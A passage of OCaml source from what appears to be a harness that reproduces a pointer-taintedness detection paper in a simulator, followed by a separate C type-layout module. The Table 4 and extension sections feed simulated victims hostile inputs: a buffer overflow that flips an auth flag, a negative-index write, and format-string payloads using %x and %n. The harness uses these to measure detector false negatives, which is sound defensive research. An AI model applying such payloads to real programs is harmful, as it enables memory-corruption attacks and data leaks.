                ~config:(c.Scenario.config program) (Job.Image program) ]
        in
        (s, jobs))
      Catalog.all
  in
  let results, stats = Campaign.run_jobs ?domains ?trace (List.concat_map snd per_scenario) in
  let cell (s : Scenario.t) (r : Campaign.job_result) =
    match r.Campaign.status with
    | Campaign.Finished res -> Scenario.verdict_name (Scenario.verdict_of s res)
    | Campaign.Failed f -> "job error: " ^ f.Campaign.exn
  in
  let remaining = ref results in
  let take n =
    let rec go n acc =
      if n = 0 then List.rev acc
      else
        match !remaining with
        | [] -> invalid_arg "coverage: result list shorter than job list"
        | r :: rest ->
          remaining := rest;
          go (n - 1) (r :: acc)
    in
    go n []
  in
  let rows =
    List.map
      (fun ((s : Scenario.t), jobs) ->
        let cells, benign =
          match take (List.length jobs) with
          | [ a; b; c ] -> ([ a; b; c ], "-")
          | [ a; b; c; bn ] -> ([ a; b; c ], cell s bn)
          | _ -> invalid_arg "coverage: unexpected job shape"
        in
        (s.Scenario.name :: Scenario.kind_name s.Scenario.kind :: List.map (cell s) cells)
        @ [ benign ])
      per_scenario
  in
  buf_add buf (Ptaint_report.Report.table ~headers rows);
  buf_add buf
    "\nPointer taintedness detects every attack; the control-data-only baseline\n\
     (Minos / Secure Program Execution style) misses all non-control-data attacks\n\
     and the corruptions that crash before any control transfer.\n";
  buf_add buf "\ncampaign metrics by policy:\n\n";
  buf_add buf (Campaign.metrics_table stats);
  buf_add buf (Format.asprintf "\n%a\n" Campaign.pp_stats stats);
  Buffer.contents buf

(* ------------------------------------------------------------------ *)
(* Table 3                                                             *)

let tab3 ?domains ?trace () =
  let buf = Buffer.create 2048 in
  buf_add buf
    (Ptaint_report.Report.section "Table 3: false positives on SPEC2000-like workloads");
  (* compile on the submitting domain (shared cache), simulate on the pool *)
  let prepared =
    List.map (fun w -> (w, Ptaint_workloads.Workload.program w)) Ptaint_workloads.Workload.all
  in
  let jobs =
    List.map
      (fun ((w : Ptaint_workloads.Workload.t), p) ->
        Job.make ~tag:("tab3/" ^ w.Ptaint_workloads.Workload.name)
          ~expect:(fun r ->
            match r.Ptaint_sim.Sim.outcome with
            | Ptaint_sim.Sim.Exited 0 -> None
            | o -> Some (Format.asprintf "expected clean exit, got %a" Ptaint_sim.Sim.pp_outcome o))
          ~config:(Ptaint_workloads.Workload.config_for w) (Job.Image p))
      prepared
  in
  let results, stats = Campaign.run_jobs ?domains ?trace jobs in
  let rows =
    List.map2
      (fun (w, p) r -> Ptaint_workloads.Workload.row_of w p (Campaign.result_exn r))
      prepared results
  in
  let kb n = Printf.sprintf "%.1fKB" (float_of_int n /. 1024.) in
  buf_add buf
    (Ptaint_report.Report.table
       ~headers:[ "workload"; "program size"; "input bytes"; "instructions"; "alerts"; "self-check" ]
       (List.map
          (fun (r : Ptaint_workloads.Workload.row) ->
            [ r.Ptaint_workloads.Workload.workload.Ptaint_workloads.Workload.name;
              kb r.Ptaint_workloads.Workload.program_bytes;
              kb r.Ptaint_workloads.Workload.input_bytes;
              Ptaint_report.Report.commas r.Ptaint_workloads.Workload.instructions;
              string_of_int r.Ptaint_workloads.Workload.alerts;
              (match r.Ptaint_workloads.Workload.outcome with
               | Ptaint_sim.Sim.Exited 0 -> "OK"
               | o -> Format.asprintf "%a" Ptaint_sim.Sim.pp_outcome o) ])
          rows));
  let total_prog = List.fold_left (fun a r -> a + r.Ptaint_workloads.Workload.program_bytes) 0 rows in
  let total_in = List.fold_left (fun a r -> a + r.Ptaint_workloads.Workload.input_bytes) 0 rows in
  let total_insn = List.fold_left (fun a r -> a + r.Ptaint_workloads.Workload.instructions) 0 rows in
  let total_alerts = List.fold_left (fun a r -> a + r.Ptaint_workloads.Workload.alerts) 0 rows in
  buf_add buf
    (Printf.sprintf
       "\nTotals: %s program bytes, %s input bytes, %s instructions, %d alerts.\n\
        As in the paper (6,586KB / 2,186KB / 15,139M instructions / 0 alerts), every\n\
        byte of input is tainted on entry and no alert is ever raised.\n"
       (kb total_prog) (kb total_in)
       (Ptaint_report.Report.commas total_insn)
       total_alerts);
  buf_add buf (Format.asprintf "\n%a\n" Campaign.pp_stats stats);
  Buffer.contents buf

(* ------------------------------------------------------------------ *)
(* Table 4                                                             *)

let run_fn ?(policy = Ptaint_cpu.Policy.default) source config =
  let program = Ptaint_runtime.Runtime.compile source in
  Ptaint_sim.Sim.run ~config:{ config with Ptaint_sim.Sim.policy } program

let tab4 ?domains ?trace () =
  let buf = Buffer.create 4096 in
  buf_add buf (Ptaint_report.Report.section "Table 4: false-negative scenarios");
  (* (A) integer overflow: `admin` is emitted immediately before
     `array`, so the out-of-range store needs index -1.  (B) auth
     flag: one byte past the buffer sets the flag's low byte; gets()'s
     terminating NUL then lands inside `auth`, never reaching the
     saved frame pointer.  (C) info leak: reads need no tainted
     dereference.  All five runs go out as one campaign batch. *)
  let int_ovf = Ptaint_runtime.Runtime.compile Ptaint_apps.Synthetic.fn_integer_overflow in
  let auth = Ptaint_runtime.Runtime.compile Ptaint_apps.Synthetic.fn_auth_flag in
  let leak = Ptaint_runtime.Runtime.compile Ptaint_apps.Synthetic.fn_info_leak in
  let admin_index = -1 in
  let a_input = Payload.le_word (Ptaint_isa.Word.of_signed admin_index) in
  let b_payload = Payload.fill 16 ^ "\x01" ^ "\n" in
  let jobs =
    [ Job.make ~tag:"tab4/A integer overflow"
        ~config:Ptaint_sim.Sim.Config.(default |> with_stdin a_input) (Job.Image int_ovf);
      Job.make ~tag:"tab4/A benign index"
        ~config:Ptaint_sim.Sim.Config.(default |> with_stdin (Payload.le_word 2))
        (Job.Image int_ovf);
      Job.make ~tag:"tab4/B auth flag"
        ~config:Ptaint_sim.Sim.Config.(default |> with_stdin b_payload) (Job.Image auth);
      Job.make ~tag:"tab4/C info leak"
        ~config:Ptaint_sim.Sim.Config.(default |> with_sessions [ [ "%x%x%x%x" ] ])
        (Job.Image leak);
      Job.make ~tag:"tab4/C write contrast"
        ~config:Ptaint_sim.Sim.Config.(default |> with_sessions [ [ "abcd%x%x%x%n" ] ])
        (Job.Image leak) ]
  in
  let results, _ = Campaign.run_jobs ?domains ?trace jobs in
  (match List.map Campaign.result_exn results with
   | [ r_a; r_a_benign; r_b; r_c; r_c_n ] ->
     buf_add buf
       (Printf.sprintf
          "(A) integer overflow, flawed upper-bound-only check\n\
          \    input: unsigned index 0x%08x (= -1 signed)\n\
          \    outcome: %s; guest output: %s\n\
          \    -> the bounds compare untaints the index, the negative-index store\n\
          \       corrupts `admin`, and no alert fires: a false negative, as in the paper.\n\n"
          (Ptaint_isa.Word.of_signed admin_index)
          (Format.asprintf "%a" Ptaint_sim.Sim.pp_outcome r_a.Ptaint_sim.Sim.outcome)
          (String.escaped r_a.Ptaint_sim.Sim.stdout));
     buf_add buf
       (Printf.sprintf "(A, benign) in-range index 2: %s / %s\n\n"
          (Format.asprintf "%a" Ptaint_sim.Sim.pp_outcome r_a_benign.Ptaint_sim.Sim.outcome)
          (String.escaped r_a_benign.Ptaint_sim.Sim.stdout));
     buf_add buf
       (Printf.sprintf
          "(B) buffer overflow corrupting the authentication flag\n\
          \    input: 16 filler bytes + 0x01 over `auth`\n\
          \    outcome: %s; guest output: %s\n\
          \    -> no pointer was tainted; access granted without the password: false negative.\n\n"
          (Format.asprintf "%a" Ptaint_sim.Sim.pp_outcome r_b.Ptaint_sim.Sim.outcome)
          (String.escaped r_b.Ptaint_sim.Sim.stdout));
     let leaked =
       List.exists
         (fun m ->
           let rec has i =
             i + 8 <= String.length m && (String.sub m i 8 = "12345678" || has (i + 1))
           in
           has 0)
         r_c.Ptaint_sim.Sim.net_sent
     in
     buf_add buf
       (Printf.sprintf
          "(C) format-string information leak (%%x%%x%%x%%x)\n\
          \    outcome: %s; secret 0x12345678 leaked to the client: %b\n\
          \    -> reads need no tainted dereference, so the leak is invisible: false negative.\n"
          (Format.asprintf "%a" Ptaint_sim.Sim.pp_outcome r_c.Ptaint_sim.Sim.outcome)
          leaked);
     buf_add buf
       (Printf.sprintf
          "(C, contrast) the same bug driven with %%n: %s\n\
          \    -> the moment the attack tries to WRITE, the tainted dereference is caught.\n"
          (Format.asprintf "%a" Ptaint_sim.Sim.pp_outcome r_c_n.Ptaint_sim.Sim.outcome))
   | _ -> invalid_arg "tab4: unexpected campaign shape");
  Buffer.contents buf

(* ------------------------------------------------------------------ *)
(* Overhead                                                            *)

let overhead () =
  let buf = Buffer.create 4096 in
  buf_add buf (Ptaint_report.Report.section "Section 5.4: architectural overhead");
  buf_add buf
    "Area: one taintedness bit per byte = 12.5% extra storage in memory, caches,\n\
     registers and datapath latches.  Performance: taint propagation is an OR\n\
     beside each ALU/copy operation and each detector is a 4-input OR — nothing\n\
     joins the critical path, so no pipeline stage or extra cycle is added.\n\n";
  buf_add buf "Pipeline-model runs (taint hardware active vs. tracking disabled):\n\n";
  let rows =
    List.map
      (fun w ->
        let p = Ptaint_workloads.Workload.program w in
        let run policy =
          let config =
            Ptaint_sim.Sim.config ~policy ~stdin:(w.Ptaint_workloads.Workload.input ()) ~timing:true ()
          in
          Ptaint_sim.Sim.run ~config p
        in
        let on = run Ptaint_cpu.Policy.default in
        let off = run Ptaint_cpu.Policy.baseline_no_tracking in
        let cyc r = Option.value ~default:0 r.Ptaint_sim.Sim.cycles in
        [ w.Ptaint_workloads.Workload.name;
          Ptaint_report.Report.commas on.Ptaint_sim.Sim.instructions;
          Ptaint_report.Report.commas (cyc on);
          Ptaint_report.Report.commas (cyc off);
          Printf.sprintf "%+.2f%%"
            (100. *. (float_of_int (cyc on) -. float_of_int (cyc off)) /. float_of_int (max 1 (cyc off))) ])
      [ Ptaint_workloads.Workload.gcc; Ptaint_workloads.Workload.mcf; Ptaint_workloads.Workload.parser ]
  in
  buf_add buf
    (Ptaint_report.Report.table
       ~headers:[ "workload"; "instructions"; "cycles (taint on)"; "cycles (taint off)"; "delta" ]
       rows);
  buf_add buf "\nSoftware (kernel tainting) overhead, one instruction per tainted input byte:\n\n";
  let rows =
    List.map
      (fun w ->
        let r = Ptaint_workloads.Workload.run w in
        [ w.Ptaint_workloads.Workload.name;
          Ptaint_report.Report.commas r.Ptaint_workloads.Workload.input_bytes;
          Ptaint_report.Report.commas r.Ptaint_workloads.Workload.instructions;
          Printf.sprintf "%.4f%%"
            (100. *. float_of_int r.Ptaint_workloads.Workload.input_bytes
             /. float_of_int (max 1 r.Ptaint_workloads.Workload.instructions)) ])
      Ptaint_workloads.Workload.all
  in
  buf_add buf
    (Ptaint_report.Report.table
       ~headers:[ "workload"; "input bytes"; "instructions"; "added instructions" ]
       rows);
  buf_add buf "\nThe paper reports 0.002%-0.2% for SPEC2000; the shape holds here.\n";
  Buffer.contents buf

(* ------------------------------------------------------------------ *)
(* Ablation                                                            *)

let ablation () =
  let buf = Buffer.create 4096 in
  buf_add buf (Ptaint_report.Report.section "Ablation: what each design choice buys");
  (* 1. compare-untaint rule off: workloads false-positive. *)
  buf_add buf "1. Hardware compare-untaint rule (Table 1, rule 4) disabled:\n\n";
  let no_compare = { Ptaint_cpu.Policy.default with Ptaint_cpu.Policy.compare_untaints = false } in
  let rows =
    List.map
      (fun w ->
        let r = Ptaint_workloads.Workload.run ~policy:no_compare w in
        [ w.Ptaint_workloads.Workload.name;
          Format.asprintf "%a" Ptaint_sim.Sim.pp_outcome r.Ptaint_workloads.Workload.outcome ])
      Ptaint_workloads.Workload.all
  in
  buf_add buf (Ptaint_report.Report.table ~headers:[ "workload"; "outcome without rule 4" ] rows);
  buf_add buf
    "\n   Validated input (array indices, parsed lengths) stays tainted, so normal\n\
     computation trips the detectors: the rule is what makes the zero-false-positive\n\
     property of Table 3 possible.  The price is Table 4(A): validation also launders\n\
     genuinely dangerous values.\n\n";
  (* flip side: Table 4(A) becomes detected *)
  let a_input = Payload.le_word (Ptaint_isa.Word.of_signed (-1)) in
  let r = run_fn ~policy:no_compare Ptaint_apps.Synthetic.fn_integer_overflow
      (Ptaint_sim.Sim.config ~stdin:a_input ()) in
  buf_add buf
    (Printf.sprintf "   Table 4(A) integer-overflow attack without rule 4: %s\n\n"
       (Format.asprintf "%a" Ptaint_sim.Sim.pp_outcome r.Ptaint_sim.Sim.outcome));
  (* 2. compiler write-back off *)
  buf_add buf
    "2. Register-residency write-back (compiler) disabled — models an -O0 binary\n\
     where every use reloads the unlaundered memory copy:\n\n";
  let rows =
    List.map
      (fun w ->
        let r = Ptaint_workloads.Workload.run ~untaint_writeback:false w in
        [ w.Ptaint_workloads.Workload.name;
          Format.asprintf "%a" Ptaint_sim.Sim.pp_outcome r.Ptaint_workloads.Workload.outcome ])
      Ptaint_workloads.Workload.all
  in
  buf_add buf (Ptaint_report.Report.table ~headers:[ "workload"; "outcome (-O0 style)" ] rows);
  buf_add buf
    "\n   The paper evaluated optimised SPEC binaries; the transparency claim\n\
     quietly depends on compilers keeping validated values in registers.\n\n";
  (* 3. detection still intact with rule 4 on *)
  buf_add buf "3. All attacks remain detected with the full configuration:\n\n";
  let detected =
    List.for_all
      (fun s -> match Scenario.run s with Scenario.Detected _, _ -> true | _ -> false)
      Catalog.all
  in
  buf_add buf (Printf.sprintf "   all %d catalogued attacks detected: %b\n" (List.length Catalog.all) detected);
  Buffer.contents buf

(* ------------------------------------------------------------------ *)
(* Section 5.3 extension: annotation guards                            *)

let extension () =
  let buf = Buffer.create 2048 in
  buf_add buf
    (Ptaint_report.Report.section
       "Section 5.3 extension: annotating data that must never be tainted");
  buf_add buf
    "The paper proposes reducing false negatives by letting the programmer\n\
     annotate critical structures; the hardware then alerts when an annotated\n\
     structure becomes tainted.  Implemented here as guard()/unguard() syscalls\n\
     backed by a Guarded_store detector.\n\n";
  let payload = Payload.fill 16 ^ "\x01" ^ "\n" in
  let r = run_fn Ptaint_apps.Synthetic.fn_auth_flag (Ptaint_sim.Sim.config ~stdin:payload ()) in
  buf_add buf
    (Printf.sprintf "Table 4(B) victim, unannotated:  %s (output: %s)\n"
       (Format.asprintf "%a" Ptaint_sim.Sim.pp_outcome r.Ptaint_sim.Sim.outcome)
       (String.escaped (String.trim r.Ptaint_sim.Sim.stdout)));
  let r =
    run_fn Ptaint_apps.Synthetic.fn_auth_flag_guarded (Ptaint_sim.Sim.config ~stdin:payload ())
  in
  buf_add buf
    (Printf.sprintf "Same victim with guard(&auth,4): %s\n"
       (Format.asprintf "%a" Ptaint_sim.Sim.pp_outcome r.Ptaint_sim.Sim.outcome));
  let r =
    run_fn Ptaint_apps.Synthetic.fn_auth_flag_guarded (Ptaint_sim.Sim.config ~stdin:"secret\n" ())
  in
  buf_add buf
    (Printf.sprintf "Annotated victim, honest login:  %s (output: %s)\n"
       (Format.asprintf "%a" Ptaint_sim.Sim.pp_outcome r.Ptaint_sim.Sim.outcome)
       (String.escaped (String.trim r.Ptaint_sim.Sim.stdout)));
  buf_add buf
    "\nThe annotation converts the (B) false negative into a detection while\n\
     staying silent for legitimate use — at the price of transparency, exactly\n\
     the trade-off the paper describes.\n";
  Buffer.contents buf

(* ------------------------------------------------------------------ *)
(* Resilience: fault injection into the detection mechanism            *)

module Fi = Ptaint_fi.Fi

(* One fault-injection trial: a plan against one (scenario, case,
   policy) cell, classified against the fault-free baseline run. *)
type fi_trial = {
  t_name : string;
  t_model : string;
  t_policy : string;
  t_malicious : bool;
  t_plan : Fi.injection list;
  t_config : Ptaint_sim.Sim.config;
  t_program : Ptaint_asm.Program.t;
  t_base : Ptaint_sim.Sim.result;
}

let fi_fingerprint (r : Ptaint_sim.Sim.result) =
  Printf.sprintf "%s|%s|%d|%s|%s"
    (Format.asprintf "%a" Ptaint_sim.Sim.pp_outcome r.Ptaint_sim.Sim.outcome)
    (String.escaped r.Ptaint_sim.Sim.stdout)
    r.Ptaint_sim.Sim.final_uid
    (String.concat "," r.Ptaint_sim.Sim.execs)
    (String.escaped (String.concat "&" r.Ptaint_sim.Sim.net_sent))

(* detected / false-negative / silent / fail-stop / wedged for attack
   trials; false-positive / silent / fail-stop / unaffected for benign
   ones.  A false negative is an attack the fault-free detector caught
   and the faulted one did not — however the undetected run ends. *)
let fi_classify t (r : Ptaint_sim.Sim.result) =
  let alerted = Ptaint_sim.Sim.detected r in
  let exited = match r.Ptaint_sim.Sim.outcome with Ptaint_sim.Sim.Exited _ -> true | _ -> false in
  if t.t_malicious then
    if alerted then "detected"
    else if not (Ptaint_sim.Sim.detected t.t_base) then "no-change"
    else if exited then "silent"
    else (match r.Ptaint_sim.Sim.outcome with
          | Ptaint_sim.Sim.Out_of_fuel -> "wedged"
          | _ -> "fail-stop")
  else if alerted then "false-positive"
  else if fi_fingerprint r = fi_fingerprint t.t_base then "unaffected"
  else if exited then "silent"
  else "fail-stop"

let resilience ?domains ?trace ?(seed = 42) () =
  let buf = Buffer.create 8192 in
  buf_add buf
    (Ptaint_report.Report.section
       "Resilience: fault injection into the taintedness mechanism itself");
  buf_add buf
    (Printf.sprintf
       "Seeded (%d), deterministic: plans are pure functions of the seed and all\n\
        schedules are in guest instruction counts, so this report is byte-identical\n\
        at any -j.  Models: data-flip (classic memory corruption), taint-wipe /\n\
        reg-taint-loss / stuck-clean (the detector disarmed: false-negative\n\
        direction), spurious-taint (the detector over-armed: false-positive\n\
        direction).\n\n" seed);
  let policies =
    [ ("pointer taintedness", Ptaint_cpu.Policy.default);
      ("control-data only", Ptaint_cpu.Policy.control_only) ]
  in
  (* -------- phase 1: fault-free baselines, one campaign -------- *)
  let cells =
    List.concat_map
      (fun (s : Scenario.t) ->
        let program = s.Scenario.build () in
        let atk = Scenario.attack s in
        List.map
          (fun (pname, policy) ->
            ( s, program, atk, pname,
              { (atk.Scenario.config program) with Ptaint_sim.Sim.policy }, true ))
          policies
        @
        match Scenario.benign s with
        | None -> []
        | Some c ->
          [ ( s, program, c, "pointer taintedness",
              { (c.Scenario.config program) with
                Ptaint_sim.Sim.policy = Ptaint_cpu.Policy.default }, false ) ])
      Catalog.all
  in
  let baseline_jobs =
    List.map
      (fun ((s : Scenario.t), program, (case : Scenario.case), pname, config, _) ->
        Job.make
          ~tag:(Printf.sprintf "base/%s/%s/%s" s.Scenario.name case.Scenario.case_name pname)
          ~policy_label:pname ~config (Job.Image program))
      cells
  in
  let baseline_results, _ = Campaign.run_jobs ?domains ?trace baseline_jobs in
  let baselines = List.map2 (fun c r -> (c, Campaign.result_exn r)) cells baseline_results in
  (* -------- phase 2: seeded injection plans -------- *)
  let trials =
    List.concat_map
      (fun (((s : Scenario.t), program, _case, pname, config, malicious), base) ->
        let insns = max 2 base.Ptaint_sim.Sim.instructions in
        let dbase = program.Ptaint_asm.Program.data_base in
        let dlen = max (String.length program.Ptaint_asm.Program.data) 16 in
        let mk model i plan =
          { t_name = Printf.sprintf "fi/%s/%s/%s/%d" s.Scenario.name model pname i;
            t_model = model; t_policy = pname; t_malicious = malicious;
            t_plan = plan; t_config = config; t_program = program; t_base = base }
        in
        if malicious then begin
          let rng tag i = Fi.Rng.create (seed lxor Hashtbl.hash (s.Scenario.name, pname, tag, i)) in
          List.init 2 (fun i ->
              let g = rng "data-flip" i in
              let at = 1 + Fi.Rng.int g (insns - 1) in
              let addr = dbase + Fi.Rng.int g dlen in
              let bit = Fi.Rng.int g 8 in
              mk "data-flip" i [ { Fi.at; fault = Fi.Flip_data { addr; bit } } ])
          @ List.init 2 (fun i ->
                let g = rng "reg-taint-loss" i in
                let at = 1 + Fi.Rng.int g (insns - 1) in
                let slot = 1 + Fi.Rng.int g 31 in
                mk "reg-taint-loss" i [ { Fi.at; fault = Fi.Reg_taint_loss { slot } } ])
          @ [ (* directed: wipe all taint state just before the baseline
                 alert point — the guaranteed false negative when the
                 fault-free detector fires *)
              (let at =
                 if Ptaint_sim.Sim.detected base then
                   max 1 (base.Ptaint_sim.Sim.instructions - 1)
                 else max 1 (insns / 2)
               in
               mk "taint-wipe" 0 [ { Fi.at; fault = Fi.Taint_wipe } ]);
              (* taint RAM stuck at clean over the data segment and the
                 active stack window, from the first instruction on *)
              mk "stuck-clean" 0
                [ { Fi.at = 1; fault = Fi.Stuck_clean { addr = dbase; len = dlen } };
                  { Fi.at = 1;
                    fault =
                      Fi.Stuck_clean
                        { addr = Ptaint_mem.Layout.stack_top - 16384; len = 16384 } } ] ]
        end
        else
          (* benign run: spurious taint on the stack/frame registers and
             a data-segment window at the midpoint — the false-positive
             direction *)
          let at = max 1 (insns / 2) in
          [ mk "spurious-taint" 0
              [ { Fi.at; fault = Fi.Spurious_taint { addr = dbase; len = min dlen 64 } };
                { Fi.at; fault = Fi.Reg_spurious_taint { slot = 29 } };
                { Fi.at; fault = Fi.Reg_spurious_taint { slot = 31 } } ] ])
      baselines
  in
  let trial_jobs =
    List.map
      (fun t ->
        Job.make ~tag:t.t_name ~policy_label:t.t_policy ~config:t.t_config
          ~injections:t.t_plan (Job.Image t.t_program))
      trials
  in
  let trial_results, trial_stats = Campaign.run_jobs ?domains ?trace trial_jobs in
  (* -------- aggregate per model x policy -------- *)
  let outcomes =
    List.map2 (fun t r -> (t, fi_classify t (Campaign.result_exn r), Campaign.result_exn r))
      trials trial_results
  in
  let keys =
    List.fold_left
      (fun acc (t, _, _) ->
        if List.mem (t.t_model, t.t_policy) acc then acc else acc @ [ (t.t_model, t.t_policy) ])
      [] outcomes
  in
  let rows =
    List.map
      (fun (model, policy) ->
        let mine = List.filter (fun (t, _, _) -> t.t_model = model && t.t_policy = policy) outcomes in
        let count v = List.length (List.filter (fun (_, c, _) -> c = v) mine) in
        let latencies =
          List.filter_map
            (fun (t, c, (r : Ptaint_sim.Sim.result)) ->
              if c = "detected" || c = "false-positive" then
                let first =
                  List.fold_left (fun a (i : Fi.injection) -> min a i.Fi.at) max_int t.t_plan
                in
                Some (max 0 (r.Ptaint_sim.Sim.instructions - first))
              else None)
            mine
        in
        let mean_latency =
          match latencies with
          | [] -> "-"
          | l -> string_of_int (List.fold_left ( + ) 0 l / List.length l)
        in
        [ model; policy; string_of_int (List.length mine); string_of_int (count "detected");
          string_of_int (count "false-negative" + count "silent" + count "fail-stop"
                         + count "wedged");
          string_of_int (count "false-positive"); string_of_int (count "silent");
          string_of_int (count "unaffected" + count "no-change" + count "masked");
          mean_latency ])
      keys
  in
  buf_add buf
    (Ptaint_report.Report.table
       ~headers:[ "fault model"; "policy"; "trials"; "detected"; "FN"; "FP"; "silent";
                  "unaffected"; "latency (insns)" ]
       rows);
  let total v = List.length (List.filter (fun (_, c, _) -> c = v) outcomes) in
  let fn_under t_models =
    List.length
      (List.filter
         (fun (t, c, _) ->
           List.mem t.t_model t_models && Ptaint_sim.Sim.detected t.t_base && t.t_malicious
           && c <> "detected" && c <> "wedged")
         outcomes)
  in
  buf_add buf
    (Printf.sprintf
       "\nFN under taint-loss models (taint-wipe/reg-taint-loss/stuck-clean): %d\n\
        FP under spurious taint: %d\n\
        silent corruptions (run completes, observable state differs, no alert): %d\n\
        harness failures during %d trials: %d\n"
       (fn_under [ "taint-wipe"; "reg-taint-loss"; "stuck-clean" ])
       (total "false-positive") (total "silent") trial_stats.Campaign.jobs
       trial_stats.Campaign.failed);
  buf_add buf "\ntrial campaign metrics by policy:\n\n";
  buf_add buf (Campaign.metrics_table trial_stats);
  (* -------- hostile-job campaign: the hardened runtime -------- *)
  buf_add buf "\nHostile-job campaign (watchdog, retries, typed failures):\n\n";
  let benign_cfg program =
    match Scenario.benign Catalog.exp1_stack_smash with
    | Some c -> c.Scenario.config program
    | None -> invalid_arg "exp1 has no benign case"
  in
  let exp1 = Catalog.exp1_stack_smash.Scenario.build () in
  let spin =
    Ptaint_asm.Assembler.assemble_exn ".text\nmain: j main\n"
  in
  let bad_syscall =
    Ptaint_asm.Assembler.assemble_exn ".text\nmain: li $v0, 999\n      syscall\n"
  in
  let crash_count = Atomic.make 0 in
  let hostile_jobs =
    [ Campaign.job ~name:"well-behaved" ~config:(benign_cfg exp1) exp1;
      Campaign.job ~name:"spinning guest (watchdog)"
        ~config:(Ptaint_sim.Sim.config ~max_instructions:1_000_000_000 ()) spin;
      Campaign.job_thunk ~name:"crashing harness thunk (retried)" (fun () ->
          ignore (Atomic.fetch_and_add crash_count 1);
          failwith "synthetic harness crash");
      Campaign.job ~name:"oversized argv (loader)"
        ~config:(Ptaint_sim.Sim.config ~argv:[ "prog"; String.make 2_000_000 'A' ] ())
        exp1;
      Campaign.job_thunk ~name:"malformed assembly (loader)" (fun () ->
          Ptaint_sim.Sim.run_asm ".data\nx: .space -4\n");
      Campaign.job ~name:"unknown syscall (guest fault)"
        ~config:(Ptaint_sim.Sim.config ()) bad_syscall;
      Campaign.job ~name:"well-behaved neighbour" ~config:(benign_cfg exp1) exp1 ]
  in
  let hresults, hstats =
    Campaign.run ?domains ?trace ~job_timeout:0.5 ~retries:1 ~backoff:0.01 hostile_jobs
  in
  buf_add buf
    (Ptaint_report.Report.table ~headers:[ "job"; "outcome"; "attempts" ]
       (List.map
          (fun (r : Campaign.job_result) ->
            [ r.Campaign.name; Campaign.outcome_name r; string_of_int r.Campaign.attempts ])
          hresults));
  buf_add buf
    (Printf.sprintf
       "\nAll %d jobs accounted for; pool and worker domains survived every failure\n\
        mode (timeout, harness crash with retry, loader errors, guest fault).\n"
       hstats.Campaign.jobs);
  Buffer.contents buf

(* ------------------------------------------------------------------ *)
(* Generative campaign: seeded program/attack synthesis                *)

let generative ?domains ?(seed = 42) ?(cases = 60) ?(variants = 6) () =
  let module Gen = Ptaint_gen.Gen in
  let np = List.length Gen.default_policy_labels in
  let spec = Gen.spec ~variants ~seed ~jobs:(cases * np) () in
  let buf = Buffer.create 4096 in
  buf_add buf
    (Ptaint_report.Report.section "Generative campaign: seeded program/attack synthesis");
  buf_add buf
    (Printf.sprintf
       "Every job is a pure function of (seed=%d, index): %d cases x %d policies,\n\
        drawn from a pool of %d program variants (exp1-family stack smash with\n\
        generated buffer sizes and helper functions) with benign / frame-pointer /\n\
        return-address payloads.  Streamed through the arena-recycling campaign\n\
        engine; byte-identical at any -j.\n\n"
       seed cases np variants);
  (* Per-case policy-disagreement fold: [on_result] fires in
     submission order and one case's policy sweep is adjacent in the
     stream, so a [np]-slot window suffices. *)
  let disagreements = ref 0 in
  let window = ref [] in
  let close_case () =
    (match !window with
     | [] -> ()
     | flags -> (
       match List.sort_uniq compare flags with
       | [ _ ] -> ()
       | _ -> incr disagreements));
    window := []
  in
  let tally, _cursor =
    Campaign.run_stream ?domains
      ~on_result:(fun s ->
        if s.Campaign.s_index mod np = 0 then close_case ();
        window := s.Campaign.s_detected :: !window)
      (Gen.jobs spec)
  in
  close_case ();
  let stats = Campaign.tally_stats tally in
  let sites = Campaign.tally_sites tally in
  buf_add buf
    (Ptaint_report.Report.kv
       ([ ("jobs", string_of_int stats.Campaign.jobs);
          ("failed (crashed guests)", string_of_int stats.Campaign.failed);
          ("cases", string_of_int cases);
          ("policy disagreement", Printf.sprintf "%d cases (%.1f%%)" !disagreements
             (100. *. float_of_int !disagreements /. float_of_int (max 1 cases)));
          ("distinct detection sites", string_of_int (List.length sites)) ]
        @ List.map
            (fun (label, n) -> ("detections [" ^ label ^ "]", string_of_int n))
            stats.Campaign.detections));
  buf_add buf "\ncampaign metrics by policy:\n\n";
  buf_add buf (Campaign.metrics_table stats);
  buf_add buf
    "\nDisagreement cases are the coverage signal: inputs where pointer\n\
     taintedness and the control-data-only baseline reach different verdicts\n\
     (typically frame-pointer clobbers and corruptions that fault before any\n\
     control transfer).\n";
  Buffer.contents buf

let all ?domains ?trace () =
  String.concat "\n"
    [ fig1 (); tab1 (); fig2 (); fig3 (); synthetic (); tab2 (); real_world ();
      coverage ?domains ?trace (); tab3 ?domains ?trace (); tab4 ?domains ?trace ();
      overhead (); ablation (); extension (); resilience ?domains ?trace ();
      generative ?domains () ]
