type t =
  | Void
  | Int
  | Uint
  | Char
  | Ptr of t
  | Array of t * int
  | Struct of string
  | Func of signature

and signature = { ret : t; params : t list; varargs : bool }

type struct_layout = { fields : (string * t * int) list; size : int }
type env = (string, struct_layout) Hashtbl.t

let rec size_of env = function
  | Void -> invalid_arg "size_of void"
  | Func _ -> invalid_arg "size_of function"
  | Int | Uint | Ptr _ -> 4
  | Char -> 1
  | Array (elt, n) -> size_of env elt * n
  | Struct name -> (
    match Hashtbl.find_opt env name with
    | Some l -> l.size
    | None -> invalid_arg ("size_of incomplete struct " ^ name))

let rec align_of env = function
  | Void | Func _ -> 1
  | Int | Uint | Ptr _ -> 4
  | Char -> 1
  | Array (elt, _) -> align_of env elt
  | Struct name -> (
    match Hashtbl.find_opt env name with
    | Some l -> if l.size >= 4 then 4 else 1
    | None -> 1)

let align_up v a = (v + a - 1) land lnot (a - 1)

let layout_struct env fields =
  let off = ref 0 in
  let placed =
    List.map
      (fun (name, ty) ->
        off := align_up !off (align_of env ty);
        let this = !off in
        off := !off + size_of env ty;
        (name, ty, this))
      fields
  in
  { fields = placed; size = align_up !off 4 }

let field env struct_name field_name =
  match Hashtbl.find_opt env struct_name with
  | None -> None
  | Some l ->
    List.find_map
      (fun (n, ty, off) -> if n = field_name then Some (ty, off) else None)
      l.fields

let is_integer = function Int | Uint | Char -> true | _ -> false
let is_pointer = function Ptr _ | Array _ -> true | _ -> false

let is_unsigned_cmp a b =
  match (a, b) with
  | Uint, _ | _, Uint -> true
  | (Ptr _ | Array _), _ | _, (Ptr _ | Array _) -> true
  | _ -> false

let decay = function Array (elt, _) -> Ptr elt | ty -> ty

let rec equal a b =
  match (a, b) with
  | Void, Void | Int, Int | Uint, Uint | Char, Char -> true
  | Ptr a, Ptr b -> equal a b
  | Array (a, n), Array (b, m) -> n = m && equal a b
  | Struct a, Struct b -> a = b
  | Func a, Func b ->
    equal a.ret b.ret && a.varargs = b.varargs
    && List.length a.params = List.length b.params
    && List.for_all2 equal a.params b.params
